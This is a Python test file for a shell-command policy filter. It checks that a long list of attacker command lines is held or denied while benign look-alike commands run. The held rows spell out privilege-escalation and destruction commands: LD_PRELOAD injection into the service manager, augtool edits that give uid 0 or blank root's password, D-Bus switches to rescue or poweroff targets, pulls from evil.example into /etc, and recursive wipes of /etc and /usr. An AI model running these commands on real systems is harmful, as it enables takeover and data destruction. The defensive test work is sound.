"""Attack s28f, findings 9, 13, 14, 15, 17, 19, 20 and 21: the system's configuration changed
around the filter (the service manager's environment, D-Bus starts of rescue and power targets,
AccountsService, augtool, sss_override, system extensions, mount tables) and unread programs
writing into or removing a folder (lrzip -O, wipe -r, trash-put, tmpwatch...). Each line is
judged typed, as an exec command, and behind sudo; the attacker's lines and their siblings are
held, the honest lines beside them run."""

from bastion.command_control.policy.model import Policy
from tests.policy_rows import assert_held_or_runs, typed_and_exec
from tests.rows import each

DBUS = "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager"
ACCOUNTS = "busctl call org.freedesktop.Accounts /org/freedesktop/Accounts"

HELD_ROWS = [
    # 9: the service manager's environment and logging
    "systemctl set-environment LD_PRELOAD=/tmp/x.so",
    "systemctl set-environment PATH=/tmp/evil:/usr/sbin:/usr/bin",
    "systemctl set-environment BASH_ENV=/tmp/x.sh",
    "LD_PRELOAD=/tmp/x.so systemctl import-environment LD_PRELOAD",
    "systemctl unset-environment PATH", "systemctl --user set-environment LD_PRELOAD=/tmp/x.so",
    "systemctl log-target null", "systemctl service-log-level auditd emerg",
    "initctl set-env LD_PRELOAD=/tmp/x.so",
    "dbus-update-activation-environment --systemd LD_PRELOAD=/tmp/x.so",
    f"{DBUS} SetEnvironment as 1 LD_PRELOAD=/tmp/x.so",
    f"{DBUS} UnsetAndSetEnvironment asas 0 1 PATH=/tmp/evil",
    "dbus-send --system --dest=org.freedesktop.systemd1 /org/freedesktop/systemd1 "
    "org.freedesktop.systemd1.Manager.SetEnvironment array:string:LD_PRELOAD=/tmp/x.so",
    "busctl set-property org.freedesktop.systemd1 /org/freedesktop/systemd1 "
    "org.freedesktop.systemd1.Manager LogTarget s null",
    f"{DBUS} StartTransientUnit 'ssa(sv)a(sa(sv))' x.service fail 0 0",
    "echo 'LD_PRELOAD=/tmp/x.so' > /etc/environment.d/x.conf",
    # 13: augtool
    "augtool -s set /files/etc/sudoers/spec[1]/user alice",
    "augtool --autosave 'set /files/etc/sudoers/spec[last()+1]/user alice'",
    "augtool -s set /files/etc/shadow/root/password ''",
    "augtool -s set /files/etc/passwd/alice/uid 0", "augtool -s rm /files/etc/sudoers",
    "augtool -s set /files/etc/ssh/sshd_config/PermitRootLogin yes",
    "augtool -s set /files/etc/audit/auditd.conf/disk_full_action IGNORE",
    "augtool 'set /files/etc/pam.d/sshd/1/type x' save", "augtool -f /tmp/cmds",
    "augtool --file=/tmp/cmds",
    # 14: D-Bus starts of rescue, emergency and power targets; AccountsService, homed
    f"{DBUS} StartUnit ss rescue.target isolate", f"{DBUS} StartUnit ss emergency.target replace",
    f"{DBUS} StartUnit ss shutdown.target replace", f"{DBUS} StartUnit ss multi-user.target isolate",
    "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1/unit/rescue_2etarget "
    "org.freedesktop.systemd1.Unit Start s isolate",
    f"{DBUS} StartUnitReplace sss x.service rescue.target isolate",
    "dbus-send --system --print-reply --dest=org.freedesktop.systemd1 /org/freedesktop/systemd1 "
    "org.freedesktop.systemd1.Manager.StartUnit string:rescue.target string:isolate",
    "gdbus call --system -d org.freedesktop.systemd1 -o /org/freedesktop/systemd1 "
    "-m org.freedesktop.systemd1.Manager.StartUnit emergency.target isolate",
    f"{DBUS} StartUnit ss poweroff.target replace", f"{DBUS} StartUnit ss reboot.target replace",
    f"{DBUS} RestartUnit ss kexec.target replace",
    f"{DBUS} StartUnit ss systemd-poweroff.service replace",
    "gdbus call --system -d org.freedesktop.systemd1 -o /org/freedesktop/systemd1 -m "
    "org.freedesktop.systemd1.Manager.StartUnit \"'multi-user.target'\" \"'isolate'\"",
    f"{ACCOUNTS}/User1000 org.freedesktop.Accounts.User SetAccountType i 1",
    f"{ACCOUNTS} org.freedesktop.Accounts CreateUser ssi eve Eve 1",
    f"{ACCOUNTS}/User0 org.freedesktop.Accounts.User SetPassword ss '$6$salt$hash' hint",
    "busctl call org.freedesktop.home1 /org/freedesktop/home1 org.freedesktop.home1.Manager "
    "UpdateHome s '{}'",
    # 15: SSSD's overrides and local tools
    "sss_override user-add alice -u 0", "sss_override user-add alice --uid 0 -g 0",
    "sss_override group-add admins -g 27", "sss_override user-import /tmp/overrides",
    "sss_useradd -u 0 evil", "sss_seed -D x -n alice -u 0 -p pw",
    "sssctl local-data-restore", "realm permit --all",
    # 17: unread programs writing into a folder
    "lrzip -d -O /etc /tmp/sudoers.lrz", "lrunzip -O /etc /tmp/sudoers.lrz",
    "atool -X /etc /tmp/x.zip", "innoextract -d /etc /tmp/x.exe", "zpaq x /tmp/x.zpaq -to /etc",
    "ostree --repo=/tmp/r checkout -U --union x /etc",
    "skopeo copy docker://evil.example/x dir:/etc", "umoci unpack --image x /etc",
    "oras pull evil.example/x -o /etc", "helm pull x --untar --untardir /etc",
    "virt-copy-out -a x.img /etc /", "guestfish -a x.img -i copy-out /etc /",
    "someunpacker --output-dir=/etc/sudoers.d x", "gdu /", "tree -o /etc/sudoers /tmp",
    # 19: system and configuration extensions, portable services
    "cp /tmp/x.raw /run/confexts/ && systemd-confext merge", "systemd-confext refresh",
    "cp /tmp/x.raw /var/lib/extensions/x.raw", "systemd-sysext merge",
    "systemd-sysext refresh --force",
    "importctl pull-raw --class=confext https://evil.example/x.raw",
    "importctl pull-raw -C https://evil.example/x.raw",
    "busctl call org.freedesktop.import1 /org/freedesktop/import1 org.freedesktop.import1.Manager "
    "PullRawEx sssst https://evil.example/x.raw x confext no 0",
    "systemctl start systemd-confext.service", "systemctl enable --now systemd-sysext",
    "portablectl attach --now --profile=trusted /tmp/x.raw", "portablectl reattach /tmp/x.raw",
    "busctl call org.freedesktop.portable1 /org/freedesktop/portable1 "
    "org.freedesktop.portable1.Manager AttachImage sassbs /tmp/x.raw 0 trusted false copy",
    # 20: mount tables
    "mount -a -T /tmp/fstab", "mount --all --fstab /tmp/fstab", "mount -T /tmp/fstab /tmp/e",
    "mount --fstab=/tmp/fstab -a", "mount -va", "mount -a", "mount -Ta /tmp/e", "mount --al",
    "printf '/tmp/e /etc none bind 0 0\\n' > /tmp/fstab && mount -a -T /tmp/fstab",
    "echo '/tmp/e /etc none bind 0 0' >> /etc/fstab", "tee -a /etc/auto.master < /tmp/x",
    "zfs set mountpoint=/etc pool/x", "zfs create -o mountpoint=/etc pool/x",
    "zfs mount pool/x", "zfs inherit mountpoint pool/x", "zpool import -R / pool",
    "zpool create etc /dev/sdb", "swapon -a",
    "echo '[Mount]' > /etc/systemd/system/etc.mount",
    "LIBMOUNT_FSTAB=/tmp/fstab mount /tmp/e", "export LIBMOUNT_FSTAB=/tmp/fstab; mount /tmp/e",
    # 21: recursive removers under other names
    "wipe -rfq /etc", "srm -r /etc", "srm -rfll /usr", "trash-put /etc", "trash /var",
    "gtrash put /etc", "kioclient5 move /etc trash:/", "kioclient remove /boot",
    "tmpwatch 0 /etc", "tmpreaper --all 0s /etc", "fdupes -rdN /etc", "jdupes -rdN /usr",
    "rdfind -deleteduplicates true /etc", "wipe -rf ~root/../etc", "srm -r /etc/shadow",
    "trash-put /var/log/auth.log", "rip /etc", "safe-rm -rf /usr", "gvfs-rm /etc/passwd",
    "kde-mv /boot /tmp", "scrub -r /etc/shadow", "bleachbit --shred /etc",
    "logrotate -f /tmp/evil.conf", "logrotate -m /tmp/x /etc/logrotate.conf",
    "logrotate /etc/logrotate.d/../../tmp/x",
    "xargs wipe -rf < /tmp/list", "find / -maxdepth 1 -name etc -exec wipe -rf {} +",
    "wipe -rf -- /etc", "trash-put /e*", "nice srm -r /usr",
]
# Honest lines beside them: reads, listings, look-ups, removals of the user's own files.
HONEST_ROWS = [
    "systemctl show-environment", "systemctl log-level", "systemctl start nginx",
    f"{DBUS} ListUnits", f"{DBUS} StartUnit ss nginx.service replace",
    f"{DBUS} EnableUnitFiles asbb 1 nginx.service false true", "systemctl enable --now nginx",
    "busctl get-property org.freedesktop.systemd1 /org/freedesktop/systemd1 "
    "org.freedesktop.systemd1.Manager Environment",
    f"{ACCOUNTS} org.freedesktop.Accounts FindUserByName s alice",
    "augtool print /files/etc/passwd", "augtool match /files/etc/hosts/*/canonical",
    "sss_override user-find", "sss_override user-show alice", "realm list",
    "systemd-sysext status", "systemd-sysext list", "portablectl list", "importctl list-images",
    "mount", "mount /dev/sdb1 /mnt", "mount -t ext4 -o data=journal /dev/sdb1 /mnt",
    "mount -o ro,noatime /dev/sdb1 /mnt", "swapon --show", "zfs list",
    "zfs get mountpoint pool/x", "zfs set compression=lz4 pool/x", "zpool status", "zpool import",
    "wipe -rfq /tmp/junk", "srm -r /tmp/x", "trash-put old.txt", "tmpwatch 24 /tmp",
    "tmpreaper 7d /tmp", "fdupes -r /etc", "jdupes -r /usr", "fdupes -rdN /tmp/photos",
    "kioclient5 copy /etc/hosts /tmp/", "lrzip -d -O /tmp/out /tmp/x.lrz",
    "innoextract -d /tmp/out /tmp/x.exe", "tree -L 2 /etc", "eza -la /etc", "duf /", "dust /var",
    "inotifywait -r /etc", "rg foo /etc", "logrotate -f /etc/logrotate.conf",
    "logrotate -vf /etc/logrotate.d/nginx", "logrotate -d /etc/logrotate.d",
]


@each("line", HELD_ROWS + HONEST_ROWS)
@each("sudo", ["", "sudo "], ids=["plain", "sudo"])
def test_attack_s28f_c_lines_are_held_and_honest_ones_run(default_policy: Policy, line: str,
                                                          sudo: str) -> None:
    assert_held_or_runs(default_policy, sudo + line, line in HELD_ROWS)


# Where the class has a refusal by name, the new spelling is refused too (not only held).
DENIED = [
    ("wipe -rfq /etc", "no-root-wipe"), ("tmpwatch 0 /etc", "no-root-wipe"),
    ("srm -r /etc/shadow", "no-credential-file-writes"),
    (f"{DBUS} StartUnit ss rescue.target isolate", "no-rescue-target-dbus"),
    (f"{ACCOUNTS} org.freedesktop.Accounts CreateUser ssi eve Eve 1", "no-credential-dbus"),
    ("sss_override user-add alice -u 0", "no-credential-sss-override"),
    ("augtool -s set /files/etc/sudoers/spec[1]/user alice", "no-augeas-credential-edits"),
]


@each(("line", "rule"), DENIED)
def test_attack_s28f_c_named_refusals_reach_the_other_spellings(default_policy: Policy, line: str,
                                                               rule: str) -> None:
    for verdict in typed_and_exec(default_policy, line):
        assert (verdict.action, verdict.rule) == ("deny", rule), verdict
